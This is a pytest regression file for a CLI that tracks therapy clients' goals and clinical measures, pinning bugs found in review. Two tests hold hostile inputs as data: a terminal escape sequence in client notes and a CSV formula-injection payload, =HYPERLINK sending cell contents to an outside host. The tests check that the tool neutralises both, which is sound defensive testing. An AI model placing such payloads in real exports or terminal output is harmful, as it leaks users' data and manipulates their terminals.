"""Defects found in review and acceptance testing, each pinned by a test."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from helpers import invoke, run_cli, snapshot


def _gas_client(runner: CliRunner) -> None:
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "autonomy", "Speak up", "--measure", "gas",
           "--baseline", "-2", "--target", "0")  # fmt: skip


def test_negative_values_can_be_logged(runner: CliRunner, home: Path) -> None:
    """`log c-1 1 -1` records -1 (GAS levels are -2..+2), options may follow the value."""
    _gas_client(runner)
    result = invoke(runner, "log", "c-1", "1", "-1", "--date", "2026-10-01")
    assert result.exit_code == 0, result.stderr
    entry = tomllib.loads((home / "clients" / "c-1.toml").read_text())["goals"][0]["progress"][0]
    assert (entry["value"], str(entry["date"])) == (-1, "2026-10-01")


def test_out_of_range_negative_value_names_the_range(runner: CliRunner) -> None:
    """-3 on a GAS goal is refused with the range written as -2..+2."""
    _gas_client(runner)
    result = invoke(runner, "log", "c-1", "1", "-3")
    assert result.exit_code == 1
    assert "outside the gas range -2..+2" in result.stderr


def _dump(goal: dict) -> str:  # type: ignore[type-arg]
    record = {
        "schema_version": 1,
        "client": {"id": "c-9", "created": "2026-01-01", "status": "active"},
        "goals": [goal],
    }
    return json.dumps({"format_version": 1, "kind": "goaltrack-export", "schema_version": 1,
                       "clients": [record]})  # fmt: skip


def _phq9_goal(entry: dict) -> dict:  # type: ignore[type-arg]
    return {"number": 1, "kind": "symptom-reduction", "title": "Mood", "measure": "phq9",
            "created": "2026-01-01", "progress": [entry]}  # fmt: skip


def test_dump_import_restores_a_value_outside_the_instrument_and_check_reports_it(
    home: Path,
) -> None:
    """A dump restores what was stored (issue 16, item 1): a PHQ-9 value of 1000 (a hand edit
    in the backed-up home) is restored as it was, and `check` reports it as it did there."""
    dump = _dump(_phq9_goal({"id": "E1", "date": "2026-02-01", "value": 1000}))
    result = run_cli("import", "-", "--input-format", "json", input=dump)
    assert result.returncode == 0, result.stderr
    stored = tomllib.loads((home / "clients" / "c-9.toml").read_text())
    assert stored["goals"][0]["progress"][0]["value"] == 1000
    checked = run_cli("check", "--format", "csv")
    assert checked.returncode == 3
    assert "value is outside the phq9 range 0-27" in checked.stdout


def test_dump_cannot_hide_an_endorsed_item9(home: Path) -> None:
    """Item answers with item 9 above 0 raise the risk flag even when the dump omits it."""
    answers = [1, 1, 1, 1, 1, 1, 1, 1, 2]
    entry = {"id": "E1", "date": "2026-02-01", "value": 10, "instrument": "phq9",
             "responses": answers}  # fmt: skip
    result = run_cli("import", "-", "--input-format", "json", input=_dump(_phq9_goal(entry)))
    assert result.returncode == 0, result.stderr
    shown = json.loads(run_cli("show", "c-9", "--json").stdout)
    assert shown["alerts"], shown


def test_huge_values_are_refused(runner: CliRunner, home: Path) -> None:
    """1e308, a 30-digit integer and -1e13: exit 1, one line naming the bound, no file changed."""
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "coping", "x")
    invoke(runner, "edit-goal", "c-1", "1", "--clear", "measure")
    before = snapshot(home)
    bound = "goaltrack: error: value: must lie between -1e12 and 1e12\n"
    for value in ("1e308", "9" * 30, "-1e13"):
        result = invoke(runner, "log", "c-1", "1", value)
        assert (result.exit_code, result.stderr, result.stdout) == (1, bound, ""), value
    assert snapshot(home) == before


@pytest.mark.slow
def test_log_with_stdout_closed_succeeds(home: Path) -> None:
    """`goaltrack log ... >&-` stores the entry and exits 0 (a retry would duplicate it)."""
    run_cli("new-client", "c-1")
    run_cli("add-goal", "c-1", "coping", "x")
    env = {**os.environ, "GOALTRACK_HOME": str(home)}
    result = subprocess.run(
        ["bash", "-c", f"{sys.executable} -m goaltrack log c-1 1 4 >&-"],
        capture_output=True, text=True, env=env, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    stored = tomllib.loads((home / "clients" / "c-1.toml").read_text())
    assert len(stored["goals"][0]["progress"]) == 1


def test_terminal_escapes_in_notes_are_not_sent_to_the_terminal(runner: CliRunner) -> None:
    """An ESC sequence in client notes is shown as \\u001b, never emitted raw."""
    invoke(runner, "new-client", "c-1", "--note", "x\x1b[2J\x1b]0;pwned\x07")
    out = invoke(runner, "show", "c-1").stdout
    assert "\x1b" not in out
    assert "\\u001b[2J" in out


def test_export_output_cannot_replace_a_client_file(runner: CliRunner, home: Path) -> None:
    """`export -o` aimed at a client file is refused and the file is unchanged."""
    invoke(runner, "new-client", "c-1")
    before = snapshot(home)
    result = invoke(runner, "export", "c-1", "-f", "csv", "-o", str(home / "clients/c-1.toml"))
    assert result.exit_code == 1
    assert snapshot(home) == before


def test_export_all_from_a_missing_home_is_an_error(tmp_path: Path) -> None:
    """A mistyped home gives exit 3, not an empty backup."""
    result = run_cli("--home", str(tmp_path / "typo"), "export", "--all")
    assert result.returncode == 3
    assert "no goaltrack data" in result.stderr


def test_home_that_is_a_file_is_an_error(tmp_path: Path) -> None:
    """`--home FILE clients` exits 3 instead of listing nothing."""
    afile = tmp_path / "file"
    afile.write_text("x")
    result = run_cli("--home", str(afile), "clients")
    assert result.returncode == 3
    assert "is not a folder" in result.stderr


@pytest.mark.slow
def test_bad_lock_timeout_is_an_input_error(runner: CliRunner, home: Path) -> None:
    """GOALTRACK_LOCK_TIMEOUT=abc or nan gives a one-line error, exit 1."""
    invoke(runner, "new-client", "c-1")
    for bad in ("abc", "nan", "-1"):
        result = run_cli("edit-client", "c-1", "--name", "x", env={"GOALTRACK_LOCK_TIMEOUT": bad})
        assert result.returncode == 1, bad
        assert "GOALTRACK_LOCK_TIMEOUT" in result.stderr


@pytest.mark.slow
def test_csv_text_cannot_run_as_a_spreadsheet_formula(runner: CliRunner, home: Path) -> None:
    """A title or note starting with '=' is written to CSV with a leading apostrophe, and
    a CSV export of it imports back to the original text."""
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "coping", '=HYPERLINK("http://x/?"&A1,"x")')
    invoke(runner, "log", "c-1", "1", "4", "--date", "2026-10-01", "--note", "=1+1")
    assert "'=HYPERLINK" in invoke(runner, "goals", "c-1", "-f", "csv").stdout
    exported = invoke(runner, "export", "c-1", "-f", "csv").stdout
    assert ",'=1+1" in exported
    assert ",4," in exported  # numbers, negative ones included, are not text
    other = home.parent / "other"
    result = run_cli("--home", str(other), "import", "-", "--input-format", "csv",
                     input="client,goal,date,value,note\nc-2,1,2026-10-01,4,'=1+1\n")  # fmt: skip
    assert result.returncode == 1  # c-2 does not exist there: the row is still parsed first
    run_cli("--home", str(other), "new-client", "c-2")
    run_cli("--home", str(other), "add-goal", "c-2", "coping", "x")
    result = run_cli("--home", str(other), "import", "-", "--input-format", "csv",
                     input="client,goal,date,value,note\nc-2,1,2026-10-01,4,'=1+1\n")  # fmt: skip
    assert result.returncode == 0, result.stderr
    stored = tomllib.loads((other / "clients" / "c-2.toml").read_text())
    assert stored["goals"][0]["progress"][0]["note"] == "=1+1"


def test_check_reports_a_hand_edited_value_outside_its_instrument(
    runner: CliRunner, home: Path
) -> None:
    """A PCL-5 value edited to 999 by hand is a `values` problem (exit 3); the file is kept."""
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "trauma-resolution", "Process the memories")
    invoke(runner, "log", "c-1", "1", "40")
    path = home / "clients" / "c-1.toml"
    path.write_text(path.read_text().replace("value = 40", "value = 999"))
    before = path.read_bytes()
    result = invoke(runner, "check", "--fix", "-f", "json")
    assert result.exit_code == 3
    findings = json.loads(result.stdout)["findings"]
    values = [f for f in findings if f["check"] == "values"]
    assert len(values) == 1
    assert "value is outside the pcl5 range 0-80" in values[0]["message"]
    assert path.read_bytes() == before


def test_logging_the_same_value_twice_on_a_day_warns(runner: CliRunner, home: Path) -> None:
    """A second identical value on the same day is stored but named on stderr with the fix."""
    invoke(runner, "new-client", "c-1", "--since", "2026-09-01")  # no before-start note
    invoke(runner, "add-goal", "c-1", "coping", "x")
    first = invoke(runner, "log", "c-1", "1", "4", "--date", "2026-09-01")
    second = invoke(runner, "log", "c-1", "1", "4", "--date", "2026-09-01")
    assert first.stderr == ""
    assert first.stdout.strip() in second.stderr
    assert f"remove-entry c-1 1 {second.stdout.strip()}" in second.stderr


def test_non_utf8_stdout_gives_valid_json_and_no_crash(runner: CliRunner) -> None:
    """With PYTHONIOENCODING=ascii, --json escapes non-ASCII text and tables print '?'."""
    invoke(runner, "new-client", "c-1", "--name", "Zoë Ñ")
    env = {"PYTHONIOENCODING": "ascii"}
    shown = run_cli("show", "c-1", "--json", env=env)
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["client"]["name"] == "Zoë Ñ"
    table = run_cli("show", "c-1", env=env)
    assert table.returncode == 0, table.stderr
    assert "Zo? ?" in table.stdout


FLAGGED = "0,0,0,0,0,0,0,0,2"


def _phq9_client(runner: CliRunner) -> None:
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "symptom-reduction", "Mood", "--baseline", "19",
           "--target", "9")  # fmt: skip


def test_bad_date_still_shows_the_item9_warning(runner: CliRunner, home: Path) -> None:
    """Answers given with a malformed --date are refused, but an endorsed item 9 still warns."""
    _phq9_client(runner)
    before = snapshot(home)
    result = invoke(runner, "measure", "c-1", "phq9", "--responses", FLAGGED,
                    "--date", "2026-13-01")  # fmt: skip
    assert result.exit_code == 1
    assert "RISK: c-1 answered 2" in result.stderr
    assert (
        "date: must be a date as YYYY-MM-DD, today, yesterday, "
        "tomorrow, or +/-N days, weeks or months (+4w, -3d)" in result.stderr
    )
    assert snapshot(home) == before


def test_malformed_hand_edit_cannot_clear_the_item9_flag(runner: CliRunner, home: Path) -> None:
    """A later one-answer PHQ-9 entry (a hand edit) neither clears the flag nor passes check."""
    _phq9_client(runner)
    invoke(runner, "measure", "c-1", "phq9", "--responses", FLAGGED, "--date", "2026-11-01")
    path = home / "clients" / "c-1.toml"
    path.write_text(
        path.read_text() + '\n[[goals.progress]]\nid = "HANDEDIT01"\ndate = 2026-11-05\n'
        'value = 12\ninstrument = "phq9"\nresponses = [0]\n'
    )
    progress = json.loads(invoke(runner, "progress", "c-1", "--json").stdout)
    assert progress["alerts"], progress
    assert invoke(runner, "check").exit_code == 3


def test_measure_of_an_administered_goal_cannot_change(runner: CliRunner, home: Path) -> None:
    """A goal holding PHQ-9 administrations refuses --measure gad7 (they would be relabelled)."""
    _phq9_client(runner)
    invoke(runner, "measure", "c-1", "phq9", "--responses", "1,1,1,1,1,1,1,1,0")
    result = invoke(runner, "edit-goal", "c-1", "1", "--measure", "gad7")
    assert result.exit_code == 1
    assert "phq9 administrations" in result.stderr


def test_decimals_are_shown_as_typed(runner: CliRunner) -> None:
    """6.125 on an ORS goal shows as 6.125 in the entries table, not 6.12."""
    invoke(runner, "new-client", "c-1")
    invoke(runner, "add-goal", "c-1", "coping", "Overall", "--measure", "ors")
    invoke(runner, "log", "c-1", "1", "6.125")
    assert "6.125" in invoke(runner, "entries", "c-1").stdout


def test_instrument_range_beyond_the_value_bound_is_refused(runner: CliRunner, home: Path) -> None:
    """instruments.toml with max = 1e308 is a clear error naming the file (exit 3)."""
    home.mkdir(mode=0o700)
    (home / "instruments.toml").write_text(
        '[big]\nname = "Big"\nmin = -1e308\nmax = 1e308\nbetter = "higher"\ninteger = false\n'
    )
    result = invoke(runner, "instruments")
    assert result.exit_code == 3
    assert "instruments.toml" in result.stderr


def test_a_gas_level_given_twice_is_refused(runner: CliRunner) -> None:
    """`--gas-level 2=b --gas-level +2=c` names the clash instead of keeping the last."""
    invoke(runner, "new-client", "c-1")
    result = invoke(runner, "add-goal", "c-1", "autonomy", "x", "--gas-level", "2=b",
                    "--gas-level", "+2=c")  # fmt: skip
    assert result.exit_code == 1
    assert "level +2 is given twice" in result.stderr
